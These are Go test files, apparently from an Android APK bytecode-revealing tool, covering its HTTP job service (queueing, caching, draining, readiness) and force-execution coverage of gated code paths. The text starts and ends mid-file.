			return stubResult(pkg.Manifest.Package), nil
		}
	})
	resp, st := postReveal(t, hs.URL, "?wait=1", buildBodyAPK(t, "bomb"))
	if resp.StatusCode != http.StatusOK || st.State != StateFailed {
		t.Fatalf("panicking job = %d %+v, want failed", resp.StatusCode, st)
	}
	if !strings.Contains(st.Err, "panicked") {
		t.Errorf("job error %q does not surface the panic", st.Err)
	}
	// The server survives and serves the next job.
	resp2, st2 := postReveal(t, hs.URL, "?wait=1", buildBodyAPK(t, "fine"))
	if resp2.StatusCode != http.StatusOK || st2.State != StateDone {
		t.Fatalf("post-panic job = %d %+v", resp2.StatusCode, st2)
	}
	// Failed jobs cache nothing and have no artifact.
	ar, err := http.Get(hs.URL + "/v1/jobs/" + st.ID + "/artifact")
	if err != nil {
		t.Fatal(err)
	}
	ar.Body.Close()
	if ar.StatusCode != http.StatusConflict {
		t.Errorf("failed job artifact = %d, want 409", ar.StatusCode)
	}
	m := getMetrics(t, hs.URL)
	if m.Jobs.Failed != 1 || m.Jobs.Done != 1 {
		t.Errorf("metrics after panic = %+v", m.Jobs)
	}
}

func TestBadRequests(t *testing.T) {
	_, hs := newTestServer(t, func(c *Config) {
		c.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
			return stubResult(pkg.Manifest.Package), nil
		}
	})
	cases := []struct {
		name, query string
		body        []byte
		want        int
	}{
		{"empty body", "", nil, http.StatusBadRequest},
		{"garbage body", "", []byte("not an apk"), http.StatusBadRequest},
		{"unknown sample", "?sample=NoSuchSample", nil, http.StatusBadRequest},
		{"bad seed", "?sample=SelfModifying1&seed=banana", nil, http.StatusBadRequest},
	}
	for _, c := range cases {
		resp, _ := postReveal(t, hs.URL, c.query, c.body)
		if resp.StatusCode != c.want {
			t.Errorf("%s: status %d, want %d", c.name, resp.StatusCode, c.want)
		}
	}
	jr, err := http.Get(hs.URL + "/v1/jobs/job-999999")
	if err != nil {
		t.Fatal(err)
	}
	jr.Body.Close()
	if jr.StatusCode != http.StatusNotFound {
		t.Errorf("unknown job = %d, want 404", jr.StatusCode)
	}
	mr, err := http.Get(hs.URL + "/v1/reveal") // wrong method
	if err != nil {
		t.Fatal(err)
	}
	mr.Body.Close()
	if mr.StatusCode != http.StatusMethodNotAllowed {
		t.Errorf("GET /v1/reveal = %d, want 405", mr.StatusCode)
	}
}

// getStatus fetches path and returns the HTTP status code.
func getStatus(t *testing.T, url string) int {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

func TestDrainRefusesNewWorkAndReadinessFlips(t *testing.T) {
	srv, hs := newTestServer(t, func(c *Config) {
		c.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
			return stubResult(pkg.Manifest.Package), nil
		}
	})
	if code := getStatus(t, hs.URL+"/healthz"); code != http.StatusOK {
		t.Fatalf("healthz = %d", code)
	}
	if code := getStatus(t, hs.URL+"/readyz"); code != http.StatusOK {
		t.Fatalf("readyz = %d", code)
	}
	// A job admitted before the drain still completes.
	resp, st := postReveal(t, hs.URL, "?wait=1", buildBodyAPK(t, "pre-drain"))
	if resp.StatusCode != http.StatusOK || st.State != StateDone {
		t.Fatalf("pre-drain job = %d %+v", resp.StatusCode, st)
	}
	srv.BeginDrain()
	// Liveness stays green through a drain — the process still serves
	// polls and artifact downloads; only readiness flips.
	if code := getStatus(t, hs.URL+"/healthz"); code != http.StatusOK {
		t.Errorf("draining healthz = %d, want 200 (liveness)", code)
	}
	if code := getStatus(t, hs.URL+"/readyz"); code != http.StatusServiceUnavailable {
		t.Errorf("draining readyz = %d, want 503", code)
	}
	resp2, _ := postReveal(t, hs.URL, "", buildBodyAPK(t, "post-drain"))
	if resp2.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("draining POST = %d, want 503", resp2.StatusCode)
	}
	// Completed jobs stay pollable through the drain.
	jr, err := http.Get(hs.URL + "/v1/jobs/" + st.ID)
	if err != nil {
		t.Fatal(err)
	}
	jr.Body.Close()
	if jr.StatusCode != http.StatusOK {
		t.Errorf("draining job poll = %d", jr.StatusCode)
	}
}

// TestReadinessGate covers the fleet join handshake: a node marked not
// ready reports 503 on /readyz while staying live on /healthz, and flips
// back to 200 once SetReady(true) is called.
func TestReadinessGate(t *testing.T) {
	srv, hs := newTestServer(t, nil)
	srv.SetReady(false)
	if code := getStatus(t, hs.URL+"/readyz"); code != http.StatusServiceUnavailable {
		t.Errorf("not-ready readyz = %d, want 503", code)
	}
	if code := getStatus(t, hs.URL+"/healthz"); code != http.StatusOK {
		t.Errorf("not-ready healthz = %d, want 200", code)
	}
	if srv.Ready() {
		t.Error("Ready() = true after SetReady(false)")
	}
	srv.SetReady(true)
	if code := getStatus(t, hs.URL+"/readyz"); code != http.StatusOK {
		t.Errorf("re-readied readyz = %d, want 200", code)
	}
	if !srv.Ready() {
		t.Error("Ready() = false after SetReady(true)")
	}
}

// TestRetryAfterJitter checks the 429 backoff hint stays in its documented
// 1–3 s window and actually varies, so a synchronized client herd spreads
// its retries instead of stampeding in lockstep.
func TestRetryAfterJitter(t *testing.T) {
	seen := map[string]bool{}
	for i := 0; i < 200; i++ {
		v := RetryAfterJitter()
		if v != "1" && v != "2" && v != "3" {
			t.Fatalf("RetryAfterJitter() = %q, want 1..3", v)
		}
		seen[v] = true
	}
	if len(seen) < 2 {
		t.Errorf("200 draws produced only %v; jitter must vary", seen)
	}
}

// TestFleetHopsStamped checks a forwarded submission's hop chain (the
// X-Dexlego-Fleet-Hops header) surfaces in the job status and lands in the
// job's trace as fleet_hop events.
func TestFleetHopsStamped(t *testing.T) {
	var buf bytes.Buffer
	sink := obs.NewJSONLSink(&buf)
	_, hs := newTestServer(t, func(c *Config) {
		c.Sink = sink
		c.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
			return stubResult(pkg.Manifest.Package), nil
		}
	})
	req, err := http.NewRequest("POST", hs.URL+"/v1/reveal?wait=1", bytes.NewReader(buildBodyAPK(t, "hopped")))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set(FleetHopsHeader, "http://node-a:1 , http://node-b:2,")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var st JobStatus
	if err := json.NewDecoder(resp.Body).Decode(&st); err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK || st.State != StateDone {
		t.Fatalf("forwarded job = %d %+v", resp.StatusCode, st)
	}
	want := []string{"http://node-a:1", "http://node-b:2"}
	if len(st.Hops) != len(want) || st.Hops[0] != want[0] || st.Hops[1] != want[1] {
		t.Fatalf("hops = %v, want %v", st.Hops, want)
	}
	trace := buf.String()
	for _, node := range want {
		if !strings.Contains(trace, `"ev":"fleet_hop"`) || !strings.Contains(trace, node) {
			t.Errorf("trace missing fleet_hop for %s:\n%s", node, trace)
		}
	}

	// A direct submission carries no hops.
	resp2, st2 := postReveal(t, hs.URL, "?wait=1", buildBodyAPK(t, "direct"))
	if resp2.StatusCode != http.StatusOK {
		t.Fatalf("direct POST = %d", resp2.StatusCode)
	}
	if len(st2.Hops) != 0 {
		t.Errorf("direct submission hops = %v, want none", st2.Hops)
	}
}

// TestSameKeyAdmissionCoalesces: concurrent submissions of one key share
// a single job (the key's reveal lease) instead of burning queue slots on
// duplicates — the property the fleet's exactly-once guarantee rests on.
func TestSameKeyAdmissionCoalesces(t *testing.T) {
	gate := make(chan struct{})
	var reveals atomic.Int64
	srv, hs := newTestServer(t, func(c *Config) {
		c.Workers = 1
		c.QueueDepth = 1
		c.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
			reveals.Add(1)
			<-gate
			return stubResult(pkg.Manifest.Package), nil
		}
	})
	body := buildBodyAPK(t, "shared")
	const dups = 6
	type outcome struct {
		code int
		st   *JobStatus
	}
	results := make(chan outcome, dups)
	for i := 0; i < dups; i++ {
		go func() {
			resp, st := postReveal(t, hs.URL, "?wait=1", body)
			results <- outcome{resp.StatusCode, st}
		}()
	}
	// Wait until the leader's reveal is running, then release it. With
	// Workers=1 and QueueDepth=1, any duplicate that did NOT coalesce
	// would have been shed with a 429 instead of completing.
	for reveals.Load() == 0 {
		time.Sleep(time.Millisecond)
	}
	time.Sleep(20 * time.Millisecond) // let the stragglers join the lease
	close(gate)
	ids := map[string]bool{}
	for i := 0; i < dups; i++ {
		r := <-results
		if r.code != http.StatusOK || r.st.State != StateDone {
			t.Fatalf("duplicate submission = %d %+v, want coalesced 200", r.code, r.st)
		}
		ids[r.st.ID] = true
	}
	if len(ids) != 1 {
		t.Errorf("duplicates spread over %d job records, want 1 shared lease", len(ids))
	}
	if n := reveals.Load(); n != 1 {
		t.Errorf("reveals = %d, want exactly 1", n)
	}
	if c := srv.coalesced.Load(); c == 0 {
		t.Error("coalesced counter never moved")
	}
	// The lease is released with the job: a later identical submission is
	// a plain cache hit, not a join.
	resp, st := postReveal(t, hs.URL, "?wait=1", body)
	if resp.StatusCode != http.StatusOK || !st.CacheHit {
		t.Errorf("post-lease submission = %d %+v, want cache hit", resp.StatusCode, st)
	}
}

func TestNewRequiresStore(t *testing.T) {
	if _, err := New(Config{}); err == nil {
		t.Fatal("New without a store must fail")
	}
}

// TestRevealWorkerBudgetClamp checks admission control over intra-reveal
// parallelism: the per-job budget is clamped so pool workers × reveal
// workers never exceeds GOMAXPROCS, a worker_clamp event records the
// refusal, and runJob hands the admitted budget (not the raw config) to
// the reveal.
func TestRevealWorkerBudgetClamp(t *testing.T) {
	procs := runtime.GOMAXPROCS(0)

	// A sane request is granted verbatim and emits no clamp event.
	st, err := store.Open(t.TempDir(), 4)
	if err != nil {
		t.Fatal(err)
	}
	srv, err := New(Config{Store: st, Workers: 1, RevealWorkers: 1})
	if err != nil {
		t.Fatal(err)
	}
	if got := srv.RevealWorkers(); got != 1 {
		t.Fatalf("workers=1 revealWorkers=1 granted %d, want 1", got)
	}
	if n := srv.tracer.Snapshot().EventCount(obs.EventWorkerClamp); n != 0 {
		t.Errorf("unclamped config emitted %d worker_clamp events", n)
	}
	srv.Close()

	// An oversubscribing request is clamped to GOMAXPROCS/poolWorkers
	// (floor 1) and recorded.
	st2, err := store.Open(t.TempDir(), 4)
	if err != nil {
		t.Fatal(err)
	}
	srv2, err := New(Config{Store: st2, Workers: procs, RevealWorkers: procs + 7})
	if err != nil {
		t.Fatal(err)
	}
	defer srv2.Close()
	if got := srv2.RevealWorkers(); got != 1 {
		t.Fatalf("workers=GOMAXPROCS revealWorkers=%d granted %d, want 1", procs+7, got)
	}
	if n := srv2.tracer.Snapshot().EventCount(obs.EventWorkerClamp); n != 1 {
		t.Errorf("clamped config emitted %d worker_clamp events, want 1", n)
	}

	// An unset budget defaults to the largest the cap allows, silently.
	st3, err := store.Open(t.TempDir(), 4)
	if err != nil {
		t.Fatal(err)
	}
	srv3, err := New(Config{Store: st3, Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	defer srv3.Close()
	if got := srv3.RevealWorkers(); got != procs {
		t.Fatalf("default budget granted %d, want GOMAXPROCS=%d", got, procs)
	}
	if n := srv3.tracer.Snapshot().EventCount(obs.EventWorkerClamp); n != 0 {
		t.Errorf("defaulted budget emitted %d worker_clamp events", n)
	}

	// The admitted budget reaches the reveal.
	var sawWorkers atomic.Int64
	sawWorkers.Store(-1)
	_, hs := newTestServer(t, func(c *Config) {
		c.Workers = procs
		c.RevealWorkers = procs + 7
		c.Reveal = func(pkg *apk.APK, o dexlego.Options) (*dexlego.Result, error) {
			sawWorkers.Store(int64(o.Workers))
			return stubResult(pkg.Manifest.Package), nil
		}
	})
	resp, job := postReveal(t, hs.URL, "?wait=1", buildBodyAPK(t, "clampapp"))
	if resp.StatusCode != http.StatusOK || job.State != StateDone {
		t.Fatalf("POST = %d, job = %+v", resp.StatusCode, job)
	}
	if got := sawWorkers.Load(); got != 1 {
		t.Errorf("reveal ran with Options.Workers = %d, want admitted budget 1", got)
	}
}
