package server

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	dexlego "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/obs"
	"dexlego/internal/pipeline"
	"dexlego/internal/store"
)

func newTestServer(t *testing.T, mutate func(*Config)) (*Server, *httptest.Server) {
	t.Helper()
	st, err := store.Open(t.TempDir(), 16)
	if err != nil {
		t.Fatal(err)
	}
	cfg := Config{Store: st, Workers: 2, QueueDepth: 8, RequestTimeout: 20 * time.Second}
	if mutate != nil {
		mutate(&cfg)
	}
	srv, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	hs := httptest.NewServer(srv.Handler())
	t.Cleanup(func() {
		hs.Close()
		srv.Close()
	})
	return srv, hs
}

func postReveal(t *testing.T, base, query string, body []byte) (*http.Response, *JobStatus) {
	t.Helper()
	resp, err := http.Post(base+"/v1/reveal"+query, "application/zip", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	var st JobStatus
	if resp.StatusCode < 300 {
		if err := json.Unmarshal(data, &st); err != nil {
			t.Fatalf("status %d, body not a JobStatus: %s", resp.StatusCode, data)
		}
	}
	return resp, &st
}

func getMetrics(t *testing.T, base string) *Metrics {
	t.Helper()
	resp, err := http.Get(base + "/v1/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var m Metrics
	if err := json.NewDecoder(resp.Body).Decode(&m); err != nil {
		t.Fatal(err)
	}
	return &m
}

// TestRevealSampleEndToEnd exercises the acceptance path: a sample
// submission runs the real Reveal, a second identical submission is a
// cache hit served without re-running, the artifact downloads as a valid
// APK, and /v1/metrics reports the cache_hit/cache_miss/queue_wait events.
func TestRevealSampleEndToEnd(t *testing.T) {
	srv, hs := newTestServer(t, nil)
	resp, first := postReveal(t, hs.URL, "?sample=SelfModifying1&wait=1", nil)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("first POST = %d", resp.StatusCode)
	}
	if first.State != StateDone || first.CacheHit || first.RevealedBytes == 0 {
		t.Fatalf("first job = %+v, want done miss with artifact", first)
	}
	if first.Metrics == nil || first.Metrics.Obs == nil {
		t.Errorf("artifact metrics missing obs snapshot: %+v", first.Metrics)
	}

	resp2, second := postReveal(t, hs.URL, "?sample=SelfModifying1&wait=1", nil)
	if resp2.StatusCode != http.StatusOK {
		t.Fatalf("second POST = %d", resp2.StatusCode)
	}
	if second.State != StateDone || !second.CacheHit {
		t.Fatalf("second job = %+v, want cache hit", second)
	}
	if second.Key != first.Key {
		t.Errorf("identical submissions got different keys: %s vs %s", second.Key, first.Key)
	}
	if misses := srv.cfg.Store.Misses(); misses != 1 {
		t.Errorf("store misses = %d, want exactly 1 reveal across both posts", misses)
	}

	// The artifact endpoint serves the revealed APK.
	art, err := http.Get(hs.URL + "/v1/jobs/" + first.ID + "/artifact")
	if err != nil {
		t.Fatal(err)
	}
	defer art.Body.Close()
	data, err := io.ReadAll(art.Body)
	if err != nil {
		t.Fatal(err)
	}
	if art.StatusCode != http.StatusOK || len(data) != first.RevealedBytes {
		t.Fatalf("artifact = %d (%d bytes), want 200 with %d bytes",
			art.StatusCode, len(data), first.RevealedBytes)
	}
	revealed, err := apk.Read(data)
	if err != nil {
		t.Fatalf("artifact is not an APK: %v", err)
	}
	if _, err := revealed.Dex(); err != nil {
		t.Errorf("revealed APK lost its classes.dex: %v", err)
	}

	// Jobs are pollable by id.
	jr, err := http.Get(hs.URL + "/v1/jobs/" + second.ID)
	if err != nil {
		t.Fatal(err)
	}
	jr.Body.Close()
	if jr.StatusCode != http.StatusOK {
		t.Errorf("job poll = %d", jr.StatusCode)
	}

	m := getMetrics(t, hs.URL)
	if m.Jobs.Done != 2 || m.Store.Misses != 1 || m.Store.Hits < 1 {
		t.Errorf("metrics = %+v", m)
	}
	for _, ev := range []obs.EventType{obs.EventCacheHit, obs.EventCacheMiss, obs.EventQueueWait, obs.EventJobDone} {
		if m.Obs.EventCount(ev) < 1 {
			t.Errorf("metrics obs snapshot missing %s: %+v", ev, m.Obs.Events)
		}
	}
	// The merged snapshot also carries the reveal's own pipeline events.
	if m.Obs.EventCount(obs.EventMethodCollected) < 1 {
		t.Errorf("reveal snapshot not merged into service metrics: %+v", m.Obs.Events)
	}
}

// stubResult fabricates a minimal successful reveal outcome.
func stubResult(name string) *dexlego.Result {
	pkg := apk.New(name, "1.0", "L"+name+";")
	pkg.SetDex([]byte{0x64, 0x65, 0x78})
	return &dexlego.Result{Revealed: pkg, Metrics: &pipeline.AppMetrics{WallNS: 1}}
}

func TestQueueFullReturns429(t *testing.T) {
	gate := make(chan struct{})
	_, hs := newTestServer(t, func(c *Config) {
		c.Workers = 1
		c.QueueDepth = 1
		c.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
			<-gate
			return stubResult(pkg.Manifest.Package), nil
		}
	})
	defer close(gate)
	// Distinct inputs so no submission collapses into another's flight:
	// the worker blocks on the first, the queue holds at most one more,
	// and a later submission must be refused with Retry-After.
	codes := make([]int, 0, 8)
	ids := make([]string, 0, 8)
	for i := 0; i < 8; i++ {
		body := buildBodyAPK(t, fmt.Sprintf("app%d", i))
		resp, st := postReveal(t, hs.URL, "", body)
		codes = append(codes, resp.StatusCode)
		if resp.StatusCode == http.StatusAccepted {
			ids = append(ids, st.ID)
			if resp.Header.Get("Location") == "" {
				t.Error("202 without Location header")
			}
		}
		if resp.StatusCode == http.StatusTooManyRequests {
			if resp.Header.Get("Retry-After") == "" {
				t.Error("429 without Retry-After")
			}
		}
	}
	saw429 := false
	for _, c := range codes {
		switch c {
		case http.StatusAccepted:
		case http.StatusTooManyRequests:
			saw429 = true
		default:
			t.Fatalf("unexpected status %d in %v", c, codes)
		}
	}
	if !saw429 {
		t.Fatalf("full queue never answered 429: %v", codes)
	}
	if len(ids) < 1 || len(ids) > 3 {
		// 1 running + 1 queued, plus at most one more racing the dequeue.
		t.Errorf("accepted %d jobs with workers=1 depth=1", len(ids))
	}
	m := getMetrics(t, hs.URL)
	if m.Jobs.Rejected < 1 {
		t.Errorf("rejected count = %d", m.Jobs.Rejected)
	}
}

func buildBodyAPK(t *testing.T, name string) []byte {
	t.Helper()
	pkg := apk.New(name, "1.0", "L"+name+"/Main;")
	pkg.SetDex([]byte(name + "-dex"))
	data, err := pkg.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestRevealPanicIsolatedIntoFailedJob(t *testing.T) {
	_, hs := newTestServer(t, func(c *Config) {
		c.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
			if pkg.Manifest.Package == "bomb" {
				panic("malicious APK blew up the runtime")
			}
			return stubResult(pkg.Manifest.Package), nil
		}
	})
	resp, st := postReveal(t, hs.URL, "?wait=1", buildBodyAPK(t, "bomb"))
	if resp.StatusCode != http.StatusOK || st.State != StateFailed {
		t.Fatalf("panicking job = %d %+v, want failed", resp.StatusCode, st)
	}
	if !strings.Contains(st.Err, "panicked") {
		t.Errorf("job error %q does not surface the panic", st.Err)
	}
	// The server survives and serves the next job.
	resp2, st2 := postReveal(t, hs.URL, "?wait=1", buildBodyAPK(t, "fine"))
	if resp2.StatusCode != http.StatusOK || st2.State != StateDone {
		t.Fatalf("post-panic job = %d %+v", resp2.StatusCode, st2)
	}
	// Failed jobs cache nothing and have no artifact.
	ar, err := http.Get(hs.URL + "/v1/jobs/" + st.ID + "/artifact")
	if err != nil {
		t.Fatal(err)
	}
	ar.Body.Close()
	if ar.StatusCode != http.StatusConflict {
		t.Errorf("failed job artifact = %d, want 409", ar.StatusCode)
	}
	m := getMetrics(t, hs.URL)
	if m.Jobs.Failed != 1 || m.Jobs.Done != 1 {
		t.Errorf("metrics after panic = %+v", m.Jobs)
	}
}

func TestBadRequests(t *testing.T) {
	_, hs := newTestServer(t, func(c *Config) {
		c.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
			return stubResult(pkg.Manifest.Package), nil
		}
	})
	cases := []struct {
		name, query string
		body        []byte
		want        int
	}{
		{"empty body", "", nil, http.StatusBadRequest},
		{"garbage body", "", []byte("not an apk"), http.StatusBadRequest},
		{"unknown sample", "?sample=NoSuchSample", nil, http.StatusBadRequest},
		{"bad seed", "?sample=SelfModifying1&seed=banana", nil, http.StatusBadRequest},
	}
	for _, c := range cases {
		resp, _ := postReveal(t, hs.URL, c.query, c.body)
		if resp.StatusCode != c.want {
			t.Errorf("%s: status %d, want %d", c.name, resp.StatusCode, c.want)
		}
	}
	jr, err := http.Get(hs.URL + "/v1/jobs/job-999999")
	if err != nil {
		t.Fatal(err)
	}
	jr.Body.Close()
	if jr.StatusCode != http.StatusNotFound {
		t.Errorf("unknown job = %d, want 404", jr.StatusCode)
	}
	mr, err := http.Get(hs.URL + "/v1/reveal") // wrong method
	if err != nil {
		t.Fatal(err)
	}
	mr.Body.Close()
	if mr.StatusCode != http.StatusMethodNotAllowed {
		t.Errorf("GET /v1/reveal = %d, want 405", mr.StatusCode)
	}
}

func TestDrainRefusesNewWorkAndHealthFlips(t *testing.T) {
	srv, hs := newTestServer(t, func(c *Config) {
		c.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
			return stubResult(pkg.Manifest.Package), nil
		}
	})
	hr, err := http.Get(hs.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	hr.Body.Close()
	if hr.StatusCode != http.StatusOK {
		t.Fatalf("healthz = %d", hr.StatusCode)
	}
	// A job admitted before the drain still completes.
	resp, st := postReveal(t, hs.URL, "?wait=1", buildBodyAPK(t, "pre-drain"))
	if resp.StatusCode != http.StatusOK || st.State != StateDone {
		t.Fatalf("pre-drain job = %d %+v", resp.StatusCode, st)
	}
	srv.BeginDrain()
	hr2, err := http.Get(hs.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	hr2.Body.Close()
	if hr2.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("draining healthz = %d, want 503", hr2.StatusCode)
	}
	resp2, _ := postReveal(t, hs.URL, "", buildBodyAPK(t, "post-drain"))
	if resp2.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("draining POST = %d, want 503", resp2.StatusCode)
	}
	// Completed jobs stay pollable through the drain.
	jr, err := http.Get(hs.URL + "/v1/jobs/" + st.ID)
	if err != nil {
		t.Fatal(err)
	}
	jr.Body.Close()
	if jr.StatusCode != http.StatusOK {
		t.Errorf("draining job poll = %d", jr.StatusCode)
	}
}

func TestNewRequiresStore(t *testing.T) {
	if _, err := New(Config{}); err == nil {
		t.Fatal("New without a store must fail")
	}
}

// TestRevealWorkerBudgetClamp checks admission control over intra-reveal
// parallelism: the per-job budget is clamped so pool workers × reveal
// workers never exceeds GOMAXPROCS, a worker_clamp event records the
// refusal, and runJob hands the admitted budget (not the raw config) to
// the reveal.
func TestRevealWorkerBudgetClamp(t *testing.T) {
	procs := runtime.GOMAXPROCS(0)

	// A sane request is granted verbatim and emits no clamp event.
	st, err := store.Open(t.TempDir(), 4)
	if err != nil {
		t.Fatal(err)
	}
	srv, err := New(Config{Store: st, Workers: 1, RevealWorkers: 1})
	if err != nil {
		t.Fatal(err)
	}
	if got := srv.RevealWorkers(); got != 1 {
		t.Fatalf("workers=1 revealWorkers=1 granted %d, want 1", got)
	}
	if n := srv.tracer.Snapshot().EventCount(obs.EventWorkerClamp); n != 0 {
		t.Errorf("unclamped config emitted %d worker_clamp events", n)
	}
	srv.Close()

	// An oversubscribing request is clamped to GOMAXPROCS/poolWorkers
	// (floor 1) and recorded.
	st2, err := store.Open(t.TempDir(), 4)
	if err != nil {
		t.Fatal(err)
	}
	srv2, err := New(Config{Store: st2, Workers: procs, RevealWorkers: procs + 7})
	if err != nil {
		t.Fatal(err)
	}
	defer srv2.Close()
	if got := srv2.RevealWorkers(); got != 1 {
		t.Fatalf("workers=GOMAXPROCS revealWorkers=%d granted %d, want 1", procs+7, got)
	}
	if n := srv2.tracer.Snapshot().EventCount(obs.EventWorkerClamp); n != 1 {
		t.Errorf("clamped config emitted %d worker_clamp events, want 1", n)
	}

	// An unset budget defaults to the largest the cap allows, silently.
	st3, err := store.Open(t.TempDir(), 4)
	if err != nil {
		t.Fatal(err)
	}
	srv3, err := New(Config{Store: st3, Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	defer srv3.Close()
	if got := srv3.RevealWorkers(); got != procs {
		t.Fatalf("default budget granted %d, want GOMAXPROCS=%d", got, procs)
	}
	if n := srv3.tracer.Snapshot().EventCount(obs.EventWorkerClamp); n != 0 {
		t.Errorf("defaulted budget emitted %d worker_clamp events", n)
	}

	// The admitted budget reaches the reveal.
	var sawWorkers atomic.Int64
	sawWorkers.Store(-1)
	_, hs := newTestServer(t, func(c *Config) {
		c.Workers = procs
		c.RevealWorkers = procs + 7
		c.Reveal = func(pkg *apk.APK, o dexlego.Options) (*dexlego.Result, error) {
			sawWorkers.Store(int64(o.Workers))
			return stubResult(pkg.Manifest.Package), nil
		}
	})
	resp, job := postReveal(t, hs.URL, "?wait=1", buildBodyAPK(t, "clampapp"))
	if resp.StatusCode != http.StatusOK || job.State != StateDone {
		t.Fatalf("POST = %d, job = %+v", resp.StatusCode, job)
	}
	if got := sawWorkers.Load(); got != 1 {
		t.Errorf("reveal ran with Options.Workers = %d, want admitted budget 1", got)
	}
}
