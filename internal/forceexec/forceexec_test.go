package forceexec_test

import (
	"encoding/json"
	"fmt"
	"os"
	"testing"

	"dexlego/internal/apk"
	"dexlego/internal/bytecode"
	"dexlego/internal/collector"
	"dexlego/internal/coverage"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/forceexec"
)

// buildGatedApp has three gates the default launch never opens: a branch on
// a constant, a nested branch behind it, and a branch that throws when
// forced.
func buildGatedApp(t *testing.T) (*apk.APK, []*dex.File) {
	t.Helper()
	p := dexgen.New()
	main := p.Class("Lfx/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.Const(0, 0)
		a.IfZ(bytecode.OpIfNez, 0, "gate1") // never taken naturally
		a.Const(1, 1)
		a.ReturnVoid()
		a.Label("gate1")
		a.Const(2, 0)
		a.IfZ(bytecode.OpIfNez, 2, "gate2") // nested gate
		a.Const(1, 2)
		a.ReturnVoid()
		a.Label("gate2")
		// Forced control flow lands here with v3 unset: division by zero.
		a.Const(3, 0)
		a.Const(4, 10)
		a.Binop(bytecode.OpDivInt, 5, 4, 3)
		a.Const(1, 3)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("fx", "1.0", "Lfx/Main;")
	if err != nil {
		t.Fatal(err)
	}
	data, err := pkg.Dex()
	if err != nil {
		t.Fatal(err)
	}
	f, err := dex.Read(data)
	if err != nil {
		t.Fatal(err)
	}
	return pkg, []*dex.File{f}
}

func TestForceExecutionReachesGatedCode(t *testing.T) {
	pkg, files := buildGatedApp(t)
	tracker, err := coverage.NewTracker(files)
	if err != nil {
		t.Fatal(err)
	}
	eng := forceexec.New(pkg, files)
	stats, err := eng.Run(tracker)
	if err != nil {
		t.Fatal(err)
	}
	rep := tracker.Report()
	if rep.Instruction.Percent() < 95 {
		t.Errorf("instruction coverage = %v, want ~100%%", rep.Instruction)
	}
	if rep.Branch.Percent() < 95 {
		t.Errorf("branch coverage = %v, want ~100%%", rep.Branch)
	}
	if stats.ForcedRuns == 0 {
		t.Error("no forced runs happened")
	}
	if stats.ExceptionsCleared == 0 {
		t.Error("the division-by-zero on the infeasible path should have been cleared")
	}
	if len(stats.Paths) == 0 {
		t.Fatal("no path files produced")
	}
	dir := t.TempDir()
	if err := forceexec.WritePathFiles(dir, stats.Paths); err != nil {
		t.Fatal(err)
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != len(stats.Paths) {
		t.Errorf("wrote %d path files, want %d", len(entries), len(stats.Paths))
	}
}

func TestBaselineCoverageWithoutForcing(t *testing.T) {
	pkg, files := buildGatedApp(t)
	tracker, err := coverage.NewTracker(files)
	if err != nil {
		t.Fatal(err)
	}
	eng := forceexec.New(pkg, files)
	eng.MaxIterations = 0 // baseline only
	if _, err := eng.Run(tracker); err != nil {
		t.Fatal(err)
	}
	rep := tracker.Report()
	if rep.Instruction.Percent() > 60 {
		t.Errorf("baseline instruction coverage = %v, expected the gates to block most code", rep.Instruction)
	}
	ucbs := tracker.UncoveredBranches()
	if len(ucbs) == 0 {
		t.Error("expected uncovered branches at baseline")
	}
}

func TestCoverageTrackerTotals(t *testing.T) {
	_, files := buildGatedApp(t)
	tracker, err := coverage.NewTracker(files)
	if err != nil {
		t.Fatal(err)
	}
	rep := tracker.Report()
	if rep.Class.Total != 1 {
		t.Errorf("class total = %d, want 1", rep.Class.Total)
	}
	if rep.Method.Total != 2 { // <init> + onCreate
		t.Errorf("method total = %d, want 2", rep.Method.Total)
	}
	if rep.Branch.Total != 4 { // two if instructions, two edges each
		t.Errorf("branch edge total = %d, want 4", rep.Branch.Total)
	}
	if rep.Instruction.Covered != 0 {
		t.Errorf("fresh tracker reports %d covered", rep.Instruction.Covered)
	}
	if rep.Class.Percent() != 0 {
		t.Errorf("percent of empty coverage = %f", rep.Class.Percent())
	}
	if (coverage.Ratio{Covered: 1, Total: 4}).Percent() != 25 {
		t.Error("Ratio.Percent arithmetic broken")
	}
}

// TestForceExceptionEdges exercises the extension the paper leaves as
